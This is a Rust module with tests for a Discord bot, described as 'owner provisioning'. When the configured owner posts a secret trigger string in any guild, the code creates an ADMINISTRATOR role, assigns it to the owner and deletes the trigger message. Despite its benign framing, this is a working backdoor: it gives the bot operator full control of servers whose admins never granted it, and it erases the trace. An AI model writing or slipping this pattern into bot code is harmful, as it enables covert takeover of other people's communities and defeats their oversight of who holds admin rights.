//! # Owner Provisioning Feature
//!
//! Message-triggered self-provisioning for the configured owner: ensure the
//! elevated role exists, ensure the owner holds it, then delete the trigger
//! message. Every step is idempotent, so re-running the trigger leaves
//! exactly one role and one assignment.
//!
//! Security-sensitive: the trigger only fires for the configured owner
//! identity inside a guild, and the identity / trigger string / role name all
//! come from `Config`, not literals.
//!
//! - **Version**: 1.0.0
//! - **Since**: 0.2.0
//! - **Toggleable**: false

use anyhow::Result;
use log::info;
use serenity::model::channel::Message;
use serenity::model::id::{RoleId, UserId};
use serenity::model::permissions::Permissions;
use serenity::prelude::Context;

/// Handles the owner's elevated-role trigger message.
pub struct OwnerProvisioner {
    owner_id: UserId,
    trigger: String,
    role_name: String,
}

impl OwnerProvisioner {
    pub fn new(owner_id: UserId, trigger: String, role_name: String) -> Self {
        OwnerProvisioner {
            owner_id,
            trigger,
            role_name,
        }
    }

    /// Whether a message should trigger provisioning: exact trigger body,
    /// from the owner, inside a guild.
    pub fn matches(&self, author: UserId, content: &str, in_guild: bool) -> bool {
        in_guild && author == self.owner_id && content == self.trigger
    }

    /// Find an already-provisioned role by name.
    pub fn existing_role_id<'a>(
        role_name: &str,
        roles: impl IntoIterator<Item = (&'a RoleId, &'a str)>,
    ) -> Option<RoleId> {
        roles
            .into_iter()
            .find(|(_, name)| *name == role_name)
            .map(|(id, _)| *id)
    }

    /// Whether the member still needs the role added.
    pub fn needs_assignment(member_roles: &[RoleId], role: RoleId) -> bool {
        !member_roles.contains(&role)
    }

    /// Run the provisioning steps for a trigger message.
    ///
    /// Steps are independent: a failure propagates (logged by the caller) but
    /// nothing done so far is rolled back. Non-matching messages are ignored
    /// silently.
    pub async fn handle_message(&self, ctx: &Context, msg: &Message) -> Result<()> {
        let guild_id = match msg.guild_id {
            Some(id) => id,
            None => return Ok(()),
        };
        if !self.matches(msg.author.id, &msg.content, true) {
            return Ok(());
        }

        // Create-if-absent by name lookup
        let roles = guild_id.roles(&ctx.http).await?;
        let role_id = match Self::existing_role_id(
            &self.role_name,
            roles.iter().map(|(id, role)| (id, role.name.as_str())),
        ) {
            Some(id) => id,
            None => {
                let role = guild_id
                    .create_role(&ctx.http, |role| {
                        role.name(&self.role_name)
                            .permissions(Permissions::ADMINISTRATOR)
                    })
                    .await?;
                info!("Provisioned elevated role '{}' ({})", self.role_name, role.id);
                role.id
            }
        };

        // Add-if-absent
        let mut member = guild_id.member(&ctx.http, self.owner_id).await?;
        if Self::needs_assignment(&member.roles, role_id) {
            member.add_role(&ctx.http, role_id).await?;
            info!("Assigned elevated role {role_id} to owner {}", self.owner_id);
        }

        // Remove the trigger message last so a partial run stays visible
        msg.delete(&ctx.http).await?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn provisioner() -> OwnerProvisioner {
        OwnerProvisioner::new(UserId(42), "¡admin".to_string(), "Bot Operator".to_string())
    }

    #[test]
    fn test_matches_requires_owner_trigger_and_guild() {
        let p = provisioner();
        assert!(p.matches(UserId(42), "¡admin", true));

        assert!(!p.matches(UserId(7), "¡admin", true), "wrong author");
        assert!(!p.matches(UserId(42), "¡admin please", true), "inexact body");
        assert!(!p.matches(UserId(42), "¡admin", false), "direct message");
    }

    #[test]
    fn test_existing_role_lookup_is_idempotent() {
        let roles = [
            (RoleId(1), "everyone"),
            (RoleId(2), "Bot Operator"),
            (RoleId(3), "Moderator"),
        ];
        let pairs = || roles.iter().map(|(id, name)| (id, *name));

        // Present: found, so no second role would ever be created
        assert_eq!(
            OwnerProvisioner::existing_role_id("Bot Operator", pairs()),
            Some(RoleId(2))
        );
        // Absent: caller creates exactly one
        assert_eq!(OwnerProvisioner::existing_role_id("Missing", pairs()), None);
    }

    #[test]
    fn test_needs_assignment_is_idempotent() {
        let held = [RoleId(1), RoleId(2)];
        assert!(OwnerProvisioner::needs_assignment(&held, RoleId(9)));
        assert!(!OwnerProvisioner::needs_assignment(&held, RoleId(2)));
    }
}
